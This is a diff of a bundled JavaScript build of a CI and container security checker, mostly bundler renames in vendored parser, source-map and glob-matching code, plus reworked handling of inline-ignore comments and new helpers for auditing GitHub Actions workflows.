[2, 65], 72: [2, 65], 75: [2, 65], 80: [2, 65], 81: [2, 65], 82: [2, 65], 83: [2, 65], 84: [2, 65], 85: [2, 65] }, { 33: [2, 67], 75: [2, 67] }, { 23: [1, 123] }, { 23: [2, 51], 65: [2, 51], 72: [2, 51], 80: [2, 51], 81: [2, 51], 82: [2, 51], 83: [2, 51], 84: [2, 51], 85: [2, 51] }, { 23: [2, 53] }, { 33: [1, 124] }, { 33: [2, 91], 65: [2, 91], 72: [2, 91], 80: [2, 91], 81: [2, 91], 82: [2, 91], 83: [2, 91], 84: [2, 91], 85: [2, 91] }, { 33: [2, 93] }, { 5: [2, 22], 14: [2, 22], 15: [2, 22], 19: [2, 22], 29: [2, 22], 34: [2, 22], 39: [2, 22], 44: [2, 22], 47: [2, 22], 48: [2, 22], 51: [2, 22], 55: [2, 22], 60: [2, 22] }, { 23: [2, 99], 33: [2, 99], 54: [2, 99], 68: [2, 99], 72: [2, 99], 75: [2, 99] }, { 73: [1, 108] }, { 20: 74, 63: 125, 64: 75, 65: [1, 43], 72: [1, 35], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 5: [2, 23], 14: [2, 23], 15: [2, 23], 19: [2, 23], 29: [2, 23], 34: [2, 23], 39: [2, 23], 44: [2, 23], 47: [2, 23], 48: [2, 23], 51: [2, 23], 55: [2, 23], 60: [2, 23] }, { 47: [2, 19] }, { 47: [2, 77] }, { 20: 74, 33: [2, 72], 41: 126, 63: 127, 64: 75, 65: [1, 43], 69: 128, 70: 76, 71: 77, 72: [1, 78], 75: [2, 72], 78: 26, 79: 27, 80: [1, 28], 81: [1, 29], 82: [1, 30], 83: [1, 31], 84: [1, 32], 85: [1, 34], 86: 33 }, { 5: [2, 24], 14: [2, 24], 15: [2, 24], 19: [2, 24], 29: [2, 24], 34: [2, 24], 39: [2, 24], 44: [2, 24], 47: [2, 24], 48: [2, 24], 51: [2, 24], 55: [2, 24], 60: [2, 24] }, { 68: [1, 129] }, { 65: [2, 95], 68: [2, 95], 72: [2, 95], 80: [2, 95], 81: [2, 95], 82: [2, 95], 83: [2, 95], 84: [2, 95], 85: [2, 95] }, { 68: [2, 97] }, { 5: [2, 21], 14: [2, 21], 15: [2, 21], 19: [2, 21], 29: [2, 21], 34: [2, 21], 39: [2, 21], 44: [2, 21], 47: [2, 21], 48: [2, 21], 51: [2, 21], 55: [2, 21], 60: [2, 21] }, { 33: [1, 130] }, { 33: [2, 63] }, { 72: [1, 132], 76: 131 }, { 33: [1, 133] }, { 33: [2, 69] }, { 15: [2, 12], 18: [2, 12] }, { 14: [2, 26], 15: [2, 26], 19: [2, 26], 29: [2, 26], 34: [2, 26], 47: [2, 26], 48: [2, 26], 51: [2, 26], 55: [2, 26], 60: [2, 26] }, { 23: [2, 31], 33: [2, 31], 54: [2, 31], 68: [2, 31], 72: [2, 31], 75: [2, 31] }, { 33: [2, 74], 42: 134, 74: 135, 75: [1, 120] }, { 33: [2, 71], 65: [2, 71], 72: [2, 71], 75: [2, 71], 80: [2, 71], 81: [2, 71], 82: [2, 71], 83: [2, 71], 84: [2, 71], 85: [2, 71] }, { 33: [2, 73], 75: [2, 73] }, { 23: [2, 29], 33: [2, 29], 54: [2, 29], 65: [2, 29], 68: [2, 29], 72: [2, 29], 75: [2, 29], 80: [2, 29], 81: [2, 29], 82: [2, 29], 83: [2, 29], 84: [2, 29], 85: [2, 29] }, { 14: [2, 15], 15: [2, 15], 19: [2, 15], 29: [2, 15], 34: [2, 15], 39: [2, 15], 44: [2, 15], 47: [2, 15], 48: [2, 15], 51: [2, 15], 55: [2, 15], 60: [2, 15] }, { 72: [1, 137], 77: [1, 136] }, { 72: [2, 100], 77: [2, 100] }, { 14: [2, 16], 15: [2, 16], 19: [2, 16], 29: [2, 16], 34: [2, 16], 44: [2, 16], 47: [2, 16], 48: [2, 16], 51: [2, 16], 55: [2, 16], 60: [2, 16] }, { 33: [1, 138] }, { 33: [2, 75] }, { 33: [2, 32] }, { 72: [2, 101], 77: [2, 101] }, { 14: [2, 17], 15: [2, 17], 19: [2, 17], 29: [2, 17], 34: [2, 17], 39: [2, 17], 44: [2, 17], 47: [2, 17], 48: [2, 17], 51: [2, 17], 55: [2, 17], 60: [2, 17] }],
         defaultActions: { 4: [2, 1], 54: [2, 55], 56: [2, 20], 60: [2, 57], 73: [2, 81], 82: [2, 85], 86: [2, 18], 90: [2, 89], 101: [2, 53], 104: [2, 93], 110: [2, 19], 111: [2, 77], 116: [2, 97], 119: [2, 63], 122: [2, 69], 135: [2, 75], 136: [2, 32] },
-        parseError: function parseError2(str, hash2) {
+        parseError: function parseError3(str, hash2) {
           throw new Error(str);
         },
         parse: function parse(input) {
@@ -28045,7 +33874,7 @@ var require_parser2 = __commonJS({
       var lexer = (function() {
         var lexer2 = {
           EOF: 1,
-          parseError: function parseError2(str, hash2) {
+          parseError: function parseError3(str, hash2) {
             if (this.yy.parser) {
               this.yy.parser.parseError(str, hash2);
             } else {
@@ -28136,9 +33965,9 @@ var require_parser2 = __commonJS({
               this.yytext = "";
               this.match = "";
             }
-            var rules = this._currentRules();
-            for (var i = 0; i < rules.length; i++) {
-              tempMatch = this._input.match(this.rules[rules[i]]);
+            var rules9 = this._currentRules();
+            for (var i = 0; i < rules9.length; i++) {
+              tempMatch = this._input.match(this.rules[rules9[i]]);
               if (tempMatch && (!match2 || tempMatch[0].length > match2[0].length)) {
                 match2 = tempMatch;
                 index = i;
@@ -28164,7 +33993,7 @@ var require_parser2 = __commonJS({
               this._more = false;
               this._input = this._input.slice(match2[0].length);
               this.matched += match2[0];
-              token = this.performAction.call(this, this.yy, this, rules[index], this.conditionStack[this.conditionStack.length - 1]);
+              token = this.performAction.call(this, this.yy, this, rules9[index], this.conditionStack[this.conditionStack.length - 1]);
               if (this.done && this._input) this.done = false;
               if (token) return token;
               else return;
@@ -28377,12 +34206,12 @@ var require_parser2 = __commonJS({
         return lexer2;
       })();
       parser.lexer = lexer;
-      function Parser() {
+      function Parser2() {
         this.yy = {};
       }
-      Parser.prototype = parser;
-      parser.Parser = Parser;
-      return new Parser();
+      Parser2.prototype = parser;
+      parser.Parser = Parser2;
+      return new Parser2();
     })();
     exports["default"] = handlebars;
     module.exports = exports["default"];
@@ -28888,7 +34717,7 @@ var require_base2 = __commonJS({
     function _interopRequireDefault(obj) {
       return obj && obj.__esModule ? obj : { "default": obj };
     }
-    var _parser = require_parser2();
+    var _parser = require_parser3();
     var _parser2 = _interopRequireDefault(_parser);
     var _whitespaceControl = require_whitespace_control();
     var _whitespaceControl2 = _interopRequireDefault(_whitespaceControl);
@@ -29502,7 +35331,7 @@ var require_base64_vlq = __commonJS({
 });
 
 // node_modules/source-map/lib/util.js
-var require_util9 = __commonJS({
+var require_util10 = __commonJS({
   "node_modules/source-map/lib/util.js"(exports) {
     function getArg(aArgs, aName, aDefaultValue) {
       if (aName in aArgs) {
@@ -29805,7 +35634,7 @@ var require_util9 = __commonJS({
 // node_modules/source-map/lib/array-set.js
 var require_array_set = __commonJS({
   "node_modules/source-map/lib/array-set.js"(exports) {
-    var util = require_util9();
+    var util = require_util10();
     var has = Object.prototype.hasOwnProperty;
     var hasNativeMap = typeof Map !== "undefined";
     function ArraySet() {
@@ -29875,7 +35704,7 @@ var require_array_set = __commonJS({
 // node_modules/source-map/lib/mapping-list.js
 var require_mapping_list = __commonJS({
   "node_modules/source-map/lib/mapping-list.js"(exports) {
-    var util = require_util9();
+    var util = require_util10();
     function generatedPositionAfter(mappingA, mappingB) {
       var lineA = mappingA.generatedLine;
       var lineB = mappingB.generatedLine;
@@ -29915,7 +35744,7 @@ var require_mapping_list = __commonJS({
 var require_source_map_generator = __commonJS({
   "node_modules/source-map/lib/source-map-generator.js"(exports) {
     var base64VLQ = require_base64_vlq();
-    var util = require_util9();
+    var util = require_util10();
     var ArraySet = require_array_set().ArraySet;
     var MappingList = require_mapping_list().MappingList;
     function SourceMapGenerator(aArgs) {
@@ -30281,7 +36110,7 @@ var require_quick_sort = __commonJS({
 // node_modules/source-map/lib/source-map-consumer.js
 var require_source_map_consumer = __commonJS({
   "node_modules/source-map/lib/source-map-consumer.js"(exports) {
-    var util = require_util9();
+    var util = require_util10();
     var binarySearch = require_binary_search();
     var ArraySet = require_array_set().ArraySet;
     var base64VLQ = require_base64_vlq();
@@ -30883,7 +36712,7 @@ var require_source_map_consumer = __commonJS({
 var require_source_node = __commonJS({
   "node_modules/source-map/lib/source-node.js"(exports) {
     var SourceMapGenerator = require_source_map_generator().SourceMapGenerator;
-    var util = require_util9();
+    var util = require_util10();
     var REGEX_NEWLINE = /(\r?\n)/;
     var NEWLINE_CODE = 10;
     var isSourceNode = "$$$isSourceNode$$$";
@@ -30919,10 +36748,10 @@ var require_source_node = __commonJS({
             lastGeneratedColumn = 0;
           } else {
             var nextLine = remainingLines[remainingLinesIndex] || "";
-            var code = nextLine.substr(0, mapping.generatedColumn - lastGeneratedColumn);
+            var code3 = nextLine.substr(0, mapping.generatedColumn - lastGeneratedColumn);
             remainingLines[remainingLinesIndex] = nextLine.substr(mapping.generatedColumn - lastGeneratedColumn);
             lastGeneratedColumn = mapping.generatedColumn;
-            addMappingWithCode(lastMapping, code);
+            addMappingWithCode(lastMapping, code3);
             lastMapping = mapping;
             return;
           }
@@ -30955,16 +36784,16 @@ var require_source_node = __commonJS({
         }
       });
       return node;
-      function addMappingWithCode(mapping, code) {
+      function addMappingWithCode(mapping, code3) {
         if (mapping === null || mapping.source === void 0) {
-          node.add(code);
+          node.add(code3);
         } else {
           var source = aRelativePath ? util.join(aRelativePath, mapping.source) : mapping.source;
           node.add(new SourceNode(
             mapping.originalLine,
             mapping.originalColumn,
             source,
-            code,
+            code3,
             mapping.name
           ));
         }
@@ -31162,8 +36991,8 @@ var require_code_gen = __commonJS({
     var _utils = require_utils2();
     var NEEDS_ESCAPING = /[\x00-\x1f\\"\u2028\u2029<\ud800-\udfff]/;
     var SCRIPT_DELIMITERS = /<(?=!--|\/?script)/gi;
-    function escapeScriptDelimiters(code) {
-      return code.replace(SCRIPT_DELIMITERS, "\\u003C");
+    function escapeScriptDelimiters(code3) {
+      return code3.replace(SCRIPT_DELIMITERS, "\\u003C");
     }
     function escapeSurrogate(surrogate2) {
       return "\\u" + surrogate2.charCodeAt(0).toString(16);
@@ -31283,18 +37112,18 @@ var require_code_gen = __commonJS({
         ret.add("}");
         return ret;
       },
-      generateList: function generateList(entries) {
+      generateList: function generateList(entries2) {
         var ret = this.empty();
-        for (var i = 0, len = entries.length; i < len; i++) {
+        for (var i = 0, len = entries2.length; i < len; i++) {
           if (i) {
             ret.add(",");
           }
-          ret.add(castChunk(entries[i], this));
+          ret.add(castChunk(entries2[i], this));
         }
         return ret;
       },
-      generateArray: function generateArray(entries) {
-        var ret = this.generateList(entries);
+      generateArray: function generateArray(entries2) {
+        var ret = this.generateList(entries2);
         ret.prepend("[");
         ret.add("]");
         return ret;
@@ -31837,11 +37666,11 @@ var require_javascript_compiler = __commonJS({
         var functionCall = this.source.functionCall(functionLookupCode, "call", helper.callParams);
         this.push(functionCall);
       },
-      itemsSeparatedBy: function itemsSeparatedBy(items, separator) {
+      itemsSeparatedBy: function itemsSeparatedBy(items2, separator) {
         var result = [];
-        result.push(items[0]);
-        for (var i = 1; i < items.length; i++) {
-          result.push(separator, items[i]);
+        result.push(items2[0]);
+        for (var i = 1; i < items2.length; i++) {
+          result.push(separator, items2[i]);
         }
         return result;
       },
@@ -32756,9 +38585,9 @@ var Summary = class {
    *
    * @returns {Summary} summary instance
    */
-  addCodeBlock(code, lang) {
+  addCodeBlock(code3, lang) {
     const attrs = Object.assign({}, lang && { lang });
-    const element = this.wrap("pre", this.wrap("code", code), attrs);
+    const element = this.wrap("pre", this.wrap("code", code3), attrs);
     return this.addRaw(element).addEOL();
   }
   /**
@@ -32769,10 +38598,10 @@ var Summary = class {
    *
    * @returns {Summary} summary instance
    */
-  addList(items, ordered = false) {
+  addList(items2, ordered = false) {
     const tag = ordered ? "ol" : "ul";
-    const listItems = items.map((item) => this.wrap("li", item)).join("");
-    const element = this.wrap(tag, listItems);
+    const listItems2 = items2.map((item) => this.wrap("li", item)).join("");
+    const element = this.wrap(tag, listItems2);
     return this.addRaw(element).addEOL();
   }
   /**
@@ -32945,18 +38774,18 @@ function info(message) {
 
 // src/core/errors.ts
 var ContainersecError = class extends Error {
-  constructor(kind, code, message, options) {
+  constructor(kind, code3, message, options) {
     super(message, options);
     this.kind = kind;
-    this.code = code;
+    this.code = code3;
     this.name = new.target.name;
   }
   kind;
   code;
 };
 var ConfigurationError = class extends ContainersecError {
-  constructor(code, message, options) {
-    super("configuration", code, message, options);
+  constructor(code3, message, options) {
+    super("configuration", code3, message, options);
   }
 };
 function errorMessage(error2) {
@@ -32970,13 +38799,13 @@ import { stat as stat3 } from "node:fs/promises";
 // src/core/rules.ts
 var RuleRegistry = class {
   rules = /* @__PURE__ */ new Map();
-  constructor(rules = []) {
-    for (const rule of rules) this.add(rule);
+  constructor(rules9 = []) {
+    for (const rule35 of rules9) this.add(rule35);
   }
-  add(rule) {
-    if (!/^[a-z0-9-]+\/([A-Za-z0-9_.-]+|\*)$/.test(rule.id)) throw new Error(`bad rule id ${rule.id}`);
-    if (this.rules.has(rule.id)) throw new Error(`duplicate rule id ${rule.id}`);
-    this.rules.set(rule.id, rule);
+  add(rule35) {
+    if (!/^[a-z0-9-]+\/([A-Za-z0-9_.-]+|\*)$/.test(rule35.id)) throw new Error(`bad rule id ${rule35.id}`);
+    if (this.rules.has(rule35.id)) throw new Error(`duplicate rule id ${rule35.id}`);
+    this.rules.set(rule35.id, rule35);
   }
   /** The definition for an id, falling back to its family's `family/*` definition. */
   get(id) {
@@ -33061,9 +38890,9 @@ function escapeBraces(str) {
 function unescapeBraces(str) {
   return str.replace(escSlashPattern, "\\").replace(escOpenPattern, "{").replace(escClosePattern, "}").replace(escCommaPattern, ",").replace(escPeriodPattern, ".");
 }
-function pushAll(target, items) {
-  for (let i = 0; i < items.length; i++) {
-    target.push(items[i]);
+function pushAll(target, items2) {
+  for (let i = 0; i < items2.length; i++) {
+    target.push(items2[i]);
   }
 }
 function balancedWithBudget(str, masked, budget) {
@@ -33552,12 +39381,12 @@ var litMatch = (l, c) => {
     return true;
   if (!l.re)
     return false;
-  const code = c.charCodeAt(0);
-  if (code >= 128)
+  const code3 = c.charCodeAt(0);
+  if (code3 >= 128)
     return l.re.test(c);
   const ascii = l.ascii ??= new Uint8Array(128);
-  ascii[code] ||= l.re.test(c) ? 1 : 2;
-  return ascii[code] === 1;
+  ascii[code3] ||= l.re.test(c) ? 1 : 2;
+  return ascii[code3] === 1;
 };
 var tokenize = (p, nocase, noext, form, mark) => {
   const toks = [];
@@ -33637,17 +39466,17 @@ var build = (toks, pairs, start, end, top) => {
   }
   return alts;
 };
-var normalize = (items, form) => {
+var normalize = (items2, form) => {
   const out = [];
-  let run3 = "";
+  let run19 = "";
   const flush = () => {
-    for (const ch of run3.normalize(form))
+    for (const ch of run19.normalize(form))
       out.push(lit(ch));
-    run3 = "";
+    run19 = "";
   };
-  for (const it of items) {
+  for (const it of items2) {
     if (it.t === "lit") {
-      run3 += it.ch;
+      run19 += it.ch;
       continue;
     }
     flush();
@@ -33656,10 +39485,10 @@ var normalize = (items, form) => {
   flush();
   return out;
 };
-var compile = (items, nocase) => {
+var compile = (items2, nocase) => {
   let id = 1;
   const split = (out) => ({ t: "split", id: id++, out });
-  const seq = (items2, next) => items2.reduceRight((next2, it) => item(it, next2), next);
+  const seq = (items3, next) => items3.reduceRight((next2, it) => item(it, next2), next);
   const item = (it, next) => {
     switch (it.t) {
       case "lit":
@@ -33685,7 +39514,7 @@ var compile = (items, nocase) => {
     after.out.push(next, entry);
     return it.type === "*" ? after : entry;
   };
-  const start = seq(items, MATCH);
+  const start = seq(items2, MATCH);
   return [start, id];
 };
 var show = (start) => {
@@ -33824,14 +39653,14 @@ var Sim = class {
         this.#addThread(state, node);
     }
   }
-  addRun(state, run3, i, top) {
+  addRun(state, run19, i, top) {
     for (const r of state.runs) {
-      if (r.neg === run3.neg && sameState(r.state, run3.state))
+      if (r.neg === run19.neg && sameState(r.state, run19.state))
         return;
     }
-    state.runs.push(run3);
-    if (!run3.state.match) {
-      this.add(state, run3.neg.next, i, top);
+    state.runs.push(run19);
+    if (!run19.state.match) {
+      this.add(state, run19.neg.next, i, top);
     }
   }
   // the threads after char `c`, at index `i`
@@ -33859,13 +39688,13 @@ var Sim = class {
       }
     }
     if (!this.restricted(i, top)) {
-      for (const run3 of state.runs) {
-        if (run3.state.dead) {
-          this.addRun(next, run3, i + 1, top);
+      for (const run19 of state.runs) {
+        if (run19.state.dead) {
+          this.addRun(next, run19, i + 1, top);
           continue;
         }
-        const sub = this.step(run3.state, c, i, false);
-        this.addRun(next, { t: "run", neg: run3.neg, state: sub }, i + 1, top);
+        const sub = this.step(run19.state, c, i, false);
+        this.addRun(next, { t: "run", neg: run19.neg, state: sub }, i + 1, top);
       }
     }
     return this.done(next);
@@ -33934,17 +39763,17 @@ var Dfa = class {
   }
   // the next state, after a miss in `d.ascii`
   next(d, c) {
-    const code = c.charCodeAt(0);
-    const found = code < 128 ? void 0 : d.next.get(c);
+    const code3 = c.charCodeAt(0);
+    const found = code3 < 128 ? void 0 : d.next.get(c);
     if (found)
       return found;
     const n = d === this.#dotStart ? this.#intern(this.#dotSim.step(d.state, c, 0, true)) : this.#intern(this.#sim.step(d.state, c, 1, true));
-    if (code < 128) {
+    if (code3 < 128) {
       if (!d.ascii) {
         d.ascii = new Array(128);
         this.#size += 128;
       }
-      d.ascii[code] = n;
+      d.ascii[code3] = n;
     } else {
       d.next.set(c, n);
     }
@@ -33988,10 +39817,10 @@ var testLinear = (nodes, chars, start, end) => {
     ni++;
   return ni === nodes.length;
 };
-var lengths = (items) => {
+var lengths = (items2) => {
   let min = 0;
   let max = 0;
-  for (const it of items) {
+  for (const it of items2) {
     const [lo, hi] = itemLengths(it);
     min += lo;
     max += hi;
@@ -34072,25 +39901,25 @@ var Matcher = class {
     this.#form = n === true ? "NFC" : n || void 0;
     const literal2 = /^[?*+@]\(\)$/.test(pattern);
     const toks = tokenize(pattern, nocase, noext || literal2, this.#form, options.rangeMark);
-    let [items] = build(toks, pair(toks), 0, toks.length, true);
+    let [items2] = build(toks, pair(toks), 0, toks.length, true);
     if (this.#form)
-      items = normalize(items, this.#form);
-    const [start, size] = compile(items, nocase);
+      items2 = normalize(items2, this.#form);
+    const [start, size] = compile(items2, nocase);
     this.#start = start;
     this.#size = size;
-    if (items.every((it) => it.t === "lit")) {
-      this.#literal = items.map((it) => it.ch).join("");
+    if (items2.every((it) => it.t === "lit")) {
+      this.#literal = items2.map((it) => it.ch).join("");
       this.#literalFold = nocase;
     } else {
       const lit2 = (it) => it.t !== "lit" ? void 0 : nocase ? { ch: it.ch, re: foldRe(it.ch) } : { ch: it.ch };
-      for (const it of items) {
+      for (const it of items2) {
         const l = lit2(it);
         if (!l)
           break;
         this.#prefix.push(l);
       }
-      for (let j = items.length - 1; j >= 0; j--) {
-        const l = lit2(items[j]);
+      for (let j = items2.length - 1; j >= 0; j--) {
+        const l = lit2(items2[j]);
         if (!l)
           break;
         this.#suffix.unshift(l);
@@ -34102,7 +39931,7 @@ var Matcher = class {
       }
       this.#linear = linear(this.#start)?.slice(this.#prefix.length, -this.#suffix.length || void 0);
       this.#wild = !!this.#linear?.every((n2) => n2.t === "star" || n2.t === "any");
-      const [min, max] = lengths(items);
+      const [min, max] = lengths(items2);
       this.#min = min;
       this.#max = max;
     }
@@ -34193,8 +40022,8 @@ var Matcher = class {
     for (let i = 0; i < chars.length; i++) {
       if (d.dead)
         return false;
-      const code = str ? s.charCodeAt(i) : chars[i].charCodeAt(0);
-      d = d.ascii?.[code] ?? dfa.next(d, chars[i]);
+      const code3 = str ? s.charCodeAt(i) : chars[i].charCodeAt(0);
+      d = d.ascii?.[code3] ?? dfa.next(d, chars[i]);
     }
     return d.match;
   }
@@ -35501,12 +41330,12 @@ var Minimatch = class {
     const { pattern } = this;
     if (this.options.nobrace)
       return this.braceExpand();
-    let code = 57344;
-    while (pattern.includes(String.fromCharCode(code))) {
-      if (++code > 63743)
+    let code3 = 57344;
+    while (pattern.includes(String.fromCharCode(code3))) {
+      if (++code3 > 63743)
         return this.braceExpand();
     }
-    const mark = String.fromCharCode(code);
+    const mark = String.fromCharCode(code3);
     let found = false;
     const marked = pattern.replace(rangeRe, (m, lo, hi) => {
       const a = Number(lo);
@@ -35629,14 +41458,14 @@ minimatch.Minimatch = Minimatch;
 minimatch.escape = escape;
 minimatch.unescape = unescape;
 
-// src/core/tree.ts
-var MAX_FILE_BYTES = 10 * 1024 * 1024;
-
 // src/core/finding.ts
 var CHECK_IDS = ["hardening", "images", "manifests", "signatures"];
 function isFileLocation(location2) {
   return !("image" in location2);
 }
+
+// src/core/tree.ts
+var MAX_FILE_BYTES = 10 * 1024 * 1024;
 
 // src/checks/suppression.ts
 var IGNORE_RE = /#\s*containersec:ignore\b[ \t]*([^\s]*)[ \t]*(.*)$/;
@@ -35646,11 +41475,11 @@ function parseInlineIgnores(text) {
   lines2.forEach((lineText, index) => {
     const match2 = IGNORE_RE.exec(lineText);
     if (!match2) return;
-    const rules = (match2[1] ?? "").split(",").map((r) => r.trim()).filter(Boolean);
+    const rules9 = (match2[1] ?? "").split(",").map((r) => r.trim()).filter(Boolean);
     ignores.push({
       line: index + 1,
       column: match2.index + 1,
-      rules,
+      rules: rules9,
       reason: (match2[2] ?? "").trim(),
       standalone: lineText.slice(0, match2.index).trim() === ""
     });
@@ -35697,30 +41526,30 @@ function selectPaths(all, globs) {
 function looksBinary(buffer) {
   return buffer.subarray(0, 8e3).includes(0);
 }
-function unreadable(check, path8, why) {
+function unreadable(check2, path8, why) {
   return {
-    ruleId: `${check}/parse-error`,
+    ruleId: `${check2}/parse-error`,
     severity: "high",
     title: "File could not be checked",
     message: `${path8} was not checked: ${why}`,
     location: { path: path8, startLine: 1, startColumn: 1 }
   };
 }
-async function readSources(context, paths, check) {
+async function readSources(context, paths, check2) {
   const files = [];
   const findings = [];
   for (const path8 of paths) {
     const size = await context.tree.size(path8);
     if (size !== void 0 && size > MAX_FILE_BYTES) {
       findings.push(
-        unreadable(check, path8, `it is ${size} bytes, over the ${MAX_FILE_BYTES}-byte limit for a checked file.`)
+        unreadable(check2, path8, `it is ${size} bytes, over the ${MAX_FILE_BYTES}-byte limit for a checked file.`)
       );
       continue;
     }
     const buffer = await context.tree.read(path8);
     if (!buffer) continue;
     if (looksBinary(buffer)) {
-      findings.push(unreadable(check, path8, "it is a binary file, not text."));
+      findings.push(unreadable(check2, path8, "it is a binary file, not text."));
       continue;
     }
     files.push({ path: path8, text: buffer.toString("utf8") });
@@ -35757,7 +41586,7 @@ function fileCheck(spec) {
           errors.push(`${linter.id} linter failed: ${errorMessage(error2)}`);
         }
       }
-      const findings = applyIgnores(raw, files, spec.id);
+      const findings = await applyIgnores(raw, files, spec.id, context.tree);
       if (spec.extra && !context.isBase) {
         const extra = await spec.extra(context);
         findings.push(...extra.findings);
@@ -35768,42 +41597,48 @@ function fileCheck(spec) {
     }
   };
 }
-function applyIgnores(findings, files, check) {
+async function applyIgnores(findings, files, check2, tree) {
   const byPath = /* @__PURE__ */ new Map();
   const other = [];
   for (const finding of findings) {
-    const path8 = "path" in finding.location && !("image" in finding.location) ? finding.location.path : void 0;
+    const path8 = isFileLocation(finding.location) ? finding.location.path : void 0;
     if (path8 === void 0) other.push(finding);
     else byPath.set(path8, [...byPath.get(path8) ?? [], finding]);
   }
   const out = [...other];
-  for (const file of files) {
-    const ignores = parseInlineIgnores(file.text);
-    out.push(...applyInlineIgnores(byPath.get(file.path) ?? [], ignores, file.path, `${check}/ignore-without-reason`));
-    byPath.delete(file.path);
+  const texts = new Map(files.map((f) => [f.path, f.text]));
+  for (const [path8, pathFindings] of byPath) {
+    let text = texts.get(path8);
+    if (text === void 0) {
+      const buffer = await tree.read(path8, MAX_FILE_BYTES);
+      text = buffer && !looksBinary(buffer) ? buffer.toString("utf8") : void 0;
+    }
+    out.push(...text === void 0 ? pathFindings : applyInlineIgnores(pathFindings, parseInlineIgnores(text), path8, `${check2}/ignore-without-reason`));
   }
-  for (const rest of byPath.values()) out.push(...rest);
+  for (const file of files) {
+    if (!byPath.has(file.path)) out.push(...applyInlineIgnores([], parseInlineIgnores(file.text), file.path, `${check2}/ignore-without-reason`));
+  }
   return out;
 }
 
 // src/checks/common-rules.ts
-function commonFileRules(check, files) {
+function commonFileRules(check2, files) {
   return [
     {
-      id: `${check}/parse-error`,
-      check,
+      id: `${check2}/parse-error`,
+      check: check2,
       title: "File could not be checked",
       // High, so an unreadable file fails closed: our parser and the real consumer (kubectl, Docker, the
       // runner) can disagree, and a file we cannot read could hide a privileged pod.
       severity: "high",
-      description: `A file selected by \`checks.${check}.paths\` (${files}) could not be parsed or read: a syntax error, a YAML alias bomb, a binary file with a text extension, or a file over the size limit. The rest of the check goes on; this file is simply not checked.`,
+      description: `A file selected by \`checks.${check2}.paths\` (${files}) could not be parsed or read: a syntax error, a YAML alias bomb, a binary file with a text extension, or a file over the size limit. The rest of the check goes on; this file is simply not checked.`,
       rationale: "A file the gate cannot read is a file it cannot vouch for. Reporting it, rather than skipping it silently, keeps an attacker from hiding a dangerous setting behind a syntax trick that the real consumer (kubectl, Docker, the CI runner) would still accept.",
-      fix: "Fix the syntax error at the reported line and column. If the file is not meant to be checked, exclude it from `paths`:\n\n```yaml\nchecks:\n  " + check + ':\n    paths: ["deploy/**", "!deploy/generated/**"]\n```',
+      fix: "Fix the syntax error at the reported line and column. If the file is not meant to be checked, exclude it from `paths`:\n\n```yaml\nchecks:\n  " + check2 + ':\n    paths: ["deploy/**", "!deploy/generated/**"]\n```',
       references: ["https://yaml.org/spec/1.2.2/"]
     },
     {
-      id: `${check}/ignore-without-reason`,
-      check,
+      id: `${check2}/ignore-without-reason`,
+      check: check2,
       title: "Inline ignore without a reason",
       severity: "medium",
       description: "A `# containersec:ignore <rule-id> <reason>` comment (or a `containersec.io/ignore` annotation) names no rule or gives no reason. It suppresses nothing.",
@@ -35813,14 +41648,379 @@ function commonFileRules(check, files) {
   ];
 }
 
-// src/checks/hardening/index.ts
-var hardeningLinters = [];
-var hardeningCheck = fileCheck({
-  id: "hardening",
-  title: "Build-environment hardening",
-  linters: hardeningLinters,
-  commonRules: commonFileRules("hardening", "GitHub workflows, composite actions, GitLab CI files")
-});
+// src/checks/hardening/common-rules.ts
+var hardeningCommonRules = commonFileRules("hardening", "GitHub workflows, composite actions, GitLab CI files");
+
+// src/checks/hardening/github-actions/audit.ts
+function nodeSpan(workflow, node) {
+  const range3 = node?.range;
+  if (!range3) return { startLine: 1, startColumn: 1 };
+  const start = workflow.parsed.position(range3[0]);
+  const end = workflow.parsed.position(range3[1]);
+  return { startLine: start.line, startColumn: start.column, endLine: end.line, endColumn: end.column };
+}
+function spanInScalar(workflow, scalar, value, offset, length) {
+  const range3 = scalar.range;
+  const needle = value.slice(offset, offset + length);
+  if (!range3 || needle.length === 0 || needle.includes("\n")) return nodeSpan(workflow, scalar);
+  const { valueOffsets, sourceOffsets } = occurrenceTable(workflow, scalar, value, needle);
+  const k = valueOffsets.indexOf(offset);
+  const at = sourceOffsets[k];
+  if (k < 0 || sourceOffsets.length !== valueOffsets.length || at === void 0) return nodeSpan(workflow, scalar);
+  const start = workflow.parsed.position(range3[0] + at);
+  const end = workflow.parsed.position(range3[0] + at + needle.length);
+  return { startLine: start.line, startColumn: start.column, endLine: end.line, endColumn: end.column };
+}
+var occurrenceCache = /* @__PURE__ */ new WeakMap();
+function occurrenceTable(workflow, scalar, value, needle) {
+  let perScalar = occurrenceCache.get(scalar);
+  if (!perScalar) {
+    perScalar = /* @__PURE__ */ new Map();
+    occurrenceCache.set(scalar, perScalar);
+  }
+  let table = perScalar.get(needle);
+  if (!table) {
+    const range3 = scalar.range;
+    table = {
+      valueOffsets: occurrenceOffsets(value, needle),
+      sourceOffsets: occurrenceOffsets(workflow.text.slice(range3[0], range3[1]), needle)
+    };
+    perScalar.set(needle, table);
+  }
+  return table;
+}
+function occurrenceOffsets(text, needle) {
+  const out = [];
+  for (let i = text.indexOf(needle); i >= 0; i = text.indexOf(needle, i + needle.length)) out.push(i);
+  return out;
+}
+function makeFinding(workflow, rule35, input) {
+  const location2 = { path: workflow.path, ...input.span };
+  if (input.job) location2.object = input.job.id;
+  const finding = {
+    ruleId: rule35.id,
+    severity: input.severity ?? rule35.severity,
+    title: rule35.title,
+    message: input.message,
+    location: location2,
+    key: input.key
+  };
+  if (input.fix) finding.fix = input.fix;
+  return finding;
+}
+function stepKey(job, step) {
+  return `${job.id}/${step.label}`;
+}
+var KeyCounter = class {
+  seen = /* @__PURE__ */ new Map();
+  next(key) {
+    const n = (this.seen.get(key) ?? 0) + 1;
+    this.seen.set(key, n);
+    return n === 1 ? key : `${key}#${n}`;
+  }
+};
+var ZIZMOR_AUDITS = "https://docs.zizmor.sh/audits/";
+var SCORECARD_CHECKS = "https://github.com/ossf/scorecard/blob/main/docs/checks.md";
+var GITHUB_HARDENING = "https://docs.github.com/en/actions/reference/security/secure-use";
+var GITHUB_SCRIPT_INJECTIONS = "https://docs.github.com/en/actions/concepts/security/script-injections";
+
+// src/checks/hardening/github-actions/expressions.ts
+var MAX_EXPRESSIONS_PER_STRING = 500;
+var MAX_EXPRESSION_LENGTH = 1e4;
+var MAX_TOKENS = 2e3;
+var MAX_DEPTH = 64;
+function findExpressions(text) {
